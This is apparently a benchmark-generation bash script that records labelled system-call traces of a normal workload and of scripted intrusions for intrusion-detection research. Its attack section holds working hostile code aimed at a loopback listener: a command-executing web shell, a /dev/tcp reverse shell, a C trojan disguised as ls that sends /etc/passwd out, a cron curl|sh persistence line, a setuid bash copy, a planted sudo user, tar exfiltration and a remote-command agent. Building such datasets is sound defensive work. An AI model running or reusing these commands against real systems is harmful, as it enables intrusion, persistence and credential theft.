#!/usr/bin/env bash
# Labelled system-call traces made here, in the manner of ADFA-LD (Creech & Hu 2013): every process of an
# ordinary workload (file tools, archives, compilers, git, scripts, databases, a web server and its clients)
# and of scripted intrusions (web shell, reverse shell, a planted user, persistence, a trojaned program,
# exfiltration, password guessing, a remote-access agent), each process one session of system-call names.
# Needs strace (Debian package) and root (useradd); changes nothing it does not undo. Writes
# OUT/normal.jsonl.gz and OUT/attack.jsonl.gz ({"session": [...], "program": "..."} per process). The set in
# bench/strace was made by `bash bench/strace-traces.sh bench/strace 1800 1` on Debian 12 (Node's machine here).
# Run: bash bench/strace-traces.sh [OUT=bench/strace] [RUNS=1800] [SEED=1]
set -u
OUT=$(realpath -m "${1:-bench/strace}")
RUNS=${2:-1800}
RANDOM=${3:-1}
WORK=$(mktemp -d)
RAW="$WORK/raw"
mkdir -p "$OUT" "$RAW"
trap 'kill $(jobs -p) 2>/dev/null; rm -rf "$WORK"' EXIT
cd "$WORK" || exit 1
# The interpreter itself, not a version manager's shim (a shell script that would add dozens of processes).
PY=$(python3 -c 'import sys; print(sys.executable)')
export PY

pick() { local a=("$@"); echo "${a[RANDOM % ${#a[@]}]}"; }
port() { echo $((20000 + RANDOM % 20000)); }

# A small home: text, code, a git repository, a SQLite database, a web root.
setup() {
  mkdir -p home/docs home/src home/www home/data
  for i in $(seq 1 40); do
    $PY -c "import random,sys; random.seed($i); w='alpha beta gamma delta report invoice error warning user admin table row value'.split(); print('\n'.join(' '.join(random.choice(w) for _ in range(random.randint(3,15))) for _ in range(random.randint(20,400))))" > "home/docs/doc$i.txt"
  done
  for i in $(seq 1 12); do
    printf '#include <stdio.h>\n#include <stdlib.h>\nint f%d(int x){return x*%d+1;}\nint main(int c,char**v){int s=0;for(int i=0;i<c*%d;i++)s+=f%d(i);printf("%%d\\n",s);return 0;}\n' "$i" "$i" "$i" "$i" > "home/src/p$i.c"
  done
  printf 'all: p1 p2 p3\np%%: p%%.c\n\tgcc -O1 -o $@ $<\nclean:\n\trm -f p1 p2 p3\n' > home/src/Makefile
  (cd home && git init -q && git config user.email a@b && git config user.name a && git add . && git commit -qm init)
  sqlite3 home/data/app.db "CREATE TABLE t(id INTEGER PRIMARY KEY, name TEXT, v REAL);" \
    "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c WHERE x<2000) INSERT INTO t(name,v) SELECT 'n'||x, x*0.5 FROM c;"
  for i in $(seq 1 20); do head -c $((RANDOM * 3)) /dev/urandom | base64 > "home/www/page$i.html"; done
  printf 'import json,sys,re,collections\nc=collections.Counter()\nfor line in open(sys.argv[1]):\n  c.update(re.findall(r"\\w+",line))\nprint(json.dumps(c.most_common(5)))\n' > home/src/words.py
  printf 'import csv,statistics,sys\nrows=[float(i)*1.5 for i in range(int(sys.argv[1]))]\nprint(statistics.mean(rows),statistics.pstdev(rows))\n' > home/src/stats.py
  # The trojan: does what ls does, and first sends the password file to a listener in a child.
  printf '#include <unistd.h>\n#include <stdio.h>\n#include <string.h>\n#include <arpa/inet.h>\n#include <sys/socket.h>\n#include <fcntl.h>\nint main(int c,char**v){if(fork()==0){int s=socket(AF_INET,SOCK_STREAM,0);struct sockaddr_in a={0};a.sin_family=AF_INET;a.sin_port=htons(atoi(getenv("P")));a.sin_addr.s_addr=htonl(0x7f000001);if(connect(s,(void*)&a,sizeof a)==0){int f=open("/etc/passwd",O_RDONLY);char b[4096];int n;while((n=read(f,b,sizeof b))>0)write(s,b,n);close(f);}close(s);_exit(0);}v[0]="ls";execvp("ls",v);return 1;}\n' > "$WORK/trojan.c"
  sed -i '1i #include <stdlib.h>' "$WORK/trojan.c"
  gcc -O1 -o "$WORK/ls" "$WORK/trojan.c"
}

# A listener that takes what is sent (for the trojan, exfiltration and reverse shells).
sink() { $PY -c "
import socket,sys
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(('127.0.0.1',$1)); s.listen(5); s.settimeout(20)
try:
  while True:
    c,_=s.accept(); c.settimeout(5)
    for cmd in sys.argv[1:]: c.sendall((cmd+'\n').encode())
    try:
      while c.recv(65536): pass
    except Exception: pass
    c.close()
except Exception: pass
" "${@:2}" & sleep 0.3; }

# A web server whose handler runs the query as a shell command when asked (the web shell), else serves files.
webserver() { $PY -c "
import http.server,subprocess,urllib.parse,os
os.chdir('home/www')
class H(http.server.SimpleHTTPRequestHandler):
  def log_message(self,*a): pass
  def do_GET(self):
    q=urllib.parse.urlparse(self.path)
    if q.path=='/cmd':
      out=subprocess.run(urllib.parse.unquote(q.query),shell=True,capture_output=True).stdout
      self.send_response(200); self.end_headers(); self.wfile.write(out)
    elif q.path=='/login':
      ok=self.headers.get('Authorization','')=='Basic YWRtaW46czNjcmV0'
      self.send_response(200 if ok else 401); self.end_headers()
    else: super().do_GET()
http.server.HTTPServer(('127.0.0.1',$1),H).serve_forever()
"; }

# One run of a command line under strace, every process in its own file; label and program name kept.
traced() {
  local label=$1 program=$2
  shift 2
  local dir="$RAW/$label/$program.$RANDOM$RANDOM"
  mkdir -p "$dir"
  timeout 30 strace -f -ff -qq -o "$dir/t" bash -c "$*" > /dev/null 2>&1 < /dev/null
}

# A server traced while clients (traced too, as `label`) ask it `requests`.
served() {
  local label=$1 program=$2 p=$3
  shift 3
  local dir="$RAW/$label/$program.$RANDOM$RANDOM"
  mkdir -p "$dir"
  timeout 60 strace -f -ff -qq -o "$dir/t" bash -c "$(declare -f webserver); webserver $p" > /dev/null 2>&1 &
  local server=$!
  sleep 0.6
  for request in "$@"; do traced "$label" "$program-client" "$request"; done
  kill "$server" 2>/dev/null
  wait "$server" 2>/dev/null
}

normal() {
  local d="home/docs/doc$((RANDOM % 40 + 1)).txt" w
  w=$(pick alpha beta error user table value)
  case $((RANDOM % 30)) in
  0) traced normal ls "ls -la home/$(pick docs src www data)" ;;
  1) traced normal cat "cat $d | wc -l" ;;
  2) traced normal grep "grep -rn $w home/docs | head -$((RANDOM % 50 + 1))" ;;
  3) traced normal find "find home -name '*.$(pick txt c html py)' -size +$((RANDOM % 4))k" ;;
  4) traced normal sort "sort $d | uniq -c | sort -rn | head" ;;
  5) traced normal sed "sed -e 's/$w/X/g' $d > $WORK/out.txt" ;;
  6) traced normal awk "awk '{n+=NF} END {print n}' $d" ;;
  7) traced normal tar "tar czf $WORK/a.tgz home/$(pick docs src www) && tar tzf $WORK/a.tgz > /dev/null" ;;
  8) traced normal gzip "cp $d $WORK/g.txt && gzip -f $WORK/g.txt && gzip -dc $WORK/g.txt.gz | md5sum" ;;
  9) traced normal gcc "gcc -O$((RANDOM % 3)) -o $WORK/p home/src/p$((RANDOM % 12 + 1)).c && $WORK/p a b" ;;
  10) traced normal make "make -s -C home/src clean all" ;;
  11) traced normal git "cd home && git $(pick status 'log --oneline' 'diff HEAD' 'show --stat' 'branch -a')" ;;
  12) traced normal git-commit "cd home && echo $RANDOM >> docs/doc$((RANDOM % 40 + 1)).txt && git add -A && git commit -qm edit" ;;
  13) traced normal python "$PY home/src/words.py $d" ;;
  14) traced normal python-stats "$PY home/src/stats.py $((RANDOM % 5000 + 10))" ;;
  15) traced normal perl "perl -ne 'print if /$w/' $d | wc -c" ;;
  16) traced normal sqlite "sqlite3 home/data/app.db \"SELECT count(*), avg(v) FROM t WHERE id > $((RANDOM % 2000))\"" ;;
  17) traced normal sqlite-write "sqlite3 home/data/app.db \"INSERT INTO t(name, v) VALUES ('x$RANDOM', $RANDOM)\"" ;;
  18) traced normal jq "echo '{\"a\": [1, 2, $RANDOM], \"b\": \"$w\"}' | jq '.a | add'" ;;
  19) traced normal xz "xz -kc $d | xz -dc | cmp - $d" ;;
  20) traced normal zip "cd $WORK && rm -f z.zip && zip -qr z.zip ../$(basename "$WORK")/home/src && unzip -l z.zip > /dev/null" ;;
  21) traced normal diff "diff home/docs/doc$((RANDOM % 40 + 1)).txt $d | head -20" ;;
  22) traced normal openssl "openssl dgst -sha256 $d && openssl enc -aes-256-cbc -pbkdf2 -pass pass:k$RANDOM -in $d -out $WORK/e.bin" ;;
  23) traced normal vim "cp $d $WORK/v.txt && vim -Es -c '%s/$w/Y/ge' -c wq $WORK/v.txt" ;;
  24) traced normal bc "echo 'scale=$((RANDOM % 50)); 4*a(1)' | bc -l" ;;
  25) traced normal sysinfo "$(pick 'df -h' 'uname -a' 'id' 'date' 'ps aux | wc -l' 'free -m' 'uptime')" ;;
  26) traced normal file "file home/$(pick docs src www data)/* | head" ;;
  27) traced normal shell-script "for f in home/docs/doc1*.txt; do wc -w \$f; done | sort -n | tail -3" ;;
  28)
    local p
    p=$(port)
    served normal web "$p" "curl -s http://127.0.0.1:$p/page$((RANDOM % 20 + 1)).html | wc -c" \
      "curl -s http://127.0.0.1:$p/ > /dev/null" "wget -qO- http://127.0.0.1:$p/page$((RANDOM % 20 + 1)).html | md5sum"
    ;;
  29) traced normal cp "mkdir -p $WORK/c && cp -r home/$(pick docs src) $WORK/c/ && rm -rf $WORK/c" ;;
  esac
}

attack() {
  local p u
  p=$(port)
  u="svc$RANDOM"
  case $1 in
  webshell)
    served attack webshell "$p" "curl -s 'http://127.0.0.1:$p/cmd?id'" \
      "curl -s 'http://127.0.0.1:$p/cmd?$(pick uname%20-a cat%20/etc/passwd ls%20-la%20/root whoami)'" \
      "curl -s 'http://127.0.0.1:$p/cmd?find%20/usr/bin%20-perm%20-4000'" \
      "curl -s 'http://127.0.0.1:$p/cmd?cat%20/etc/shadow%20|%20head%20-3'"
    ;;
  reverse-shell)
    sink "$p" whoami "cat /etc/shadow | head -2" "ls -la /root" "ps aux | head" exit
    traced attack reverse-shell "bash -c 'bash --norc -i >& /dev/tcp/127.0.0.1/$p 0>&1'"
    ;;
  adduser)
    traced attack adduser "useradd -m -s /bin/bash $u && echo '$u:p4ss$RANDOM' | chpasswd && usermod -aG sudo $u"
    userdel -r "$u" > /dev/null 2>&1
    ;;
  persistence)
    traced attack persistence "mkdir -p $WORK/cron && echo '* * * * * curl -s http://127.0.0.1:$p/b | sh' >> $WORK/cron/root && cp /bin/bash $WORK/.x && chmod u+s $WORK/.x && echo 'nohup $WORK/.x -p &' >> $WORK/bashrc"
    ;;
  trojan)
    sink "$p"
    traced attack trojan "P=$p $WORK/ls -la home/$(pick docs src www data)"
    ;;
  exfiltration)
    sink "$p"
    traced attack exfiltration "tar czf - /etc/passwd /etc/group home/data 2>/dev/null | $PY -c \"import socket,sys; s=socket.create_connection(('127.0.0.1',$p)); s.sendall(sys.stdin.buffer.read())\""
    ;;
  guessing)
    served attack guessing "$p" "for pw in admin root 123456 password letmein; do curl -s -o /dev/null -w '%{http_code}' -u admin:\$pw http://127.0.0.1:$p/login; done" \
      "for i in \$(seq 1 $((RANDOM % 20 + 5))); do openssl passwd -6 -salt ab guess\$i; done | grep -c ."
    ;;
  agent)
    sink "$p" "id" "uname -a" "cat /etc/passwd" "ls /home" "exit"
    traced attack agent "$PY -c \"
import socket,subprocess
s=socket.create_connection(('127.0.0.1',$p))
f=s.makefile('rw')
for line in f:
  if line.strip()=='exit': break
  out=subprocess.run(line,shell=True,capture_output=True).stdout
  s.sendall(out)
\""
    ;;
  esac
}

setup
for i in $(seq 1 "$RUNS"); do normal; done
for round in $(seq 1 8); do
  for kind in webshell reverse-shell adduser persistence trojan exfiltration guessing agent; do attack "$kind"; done
done
wait 2>/dev/null
# Every process's file: its system calls' names in order, one session.
"$PY" - "$RAW" "$OUT" <<'PY'
import gzip, json, os, re, sys
raw, out = sys.argv[1:]
call = re.compile(r"^([a-z_0-9]+)\(")
for label in ("normal", "attack"):
    with gzip.open(os.path.join(out, f"{label}.jsonl.gz"), "wt", compresslevel=9) as w:
        base = os.path.join(raw, label)
        for run in sorted(os.listdir(base)):
            for name in sorted(os.listdir(os.path.join(base, run)), key=lambda n: int(n.split(".")[-1])):
                calls = []
                for line in open(os.path.join(base, run, name), errors="replace"):
                    m = call.match(line)
                    if m: calls.append(m.group(1))
                if calls:
                    w.write(json.dumps({"session": calls, "program": run.rsplit(".", 1)[0], "run": run}) + "\n")
PY
zcat "$OUT"/normal.jsonl.gz | wc -l
zcat "$OUT"/attack.jsonl.gz | wc -l
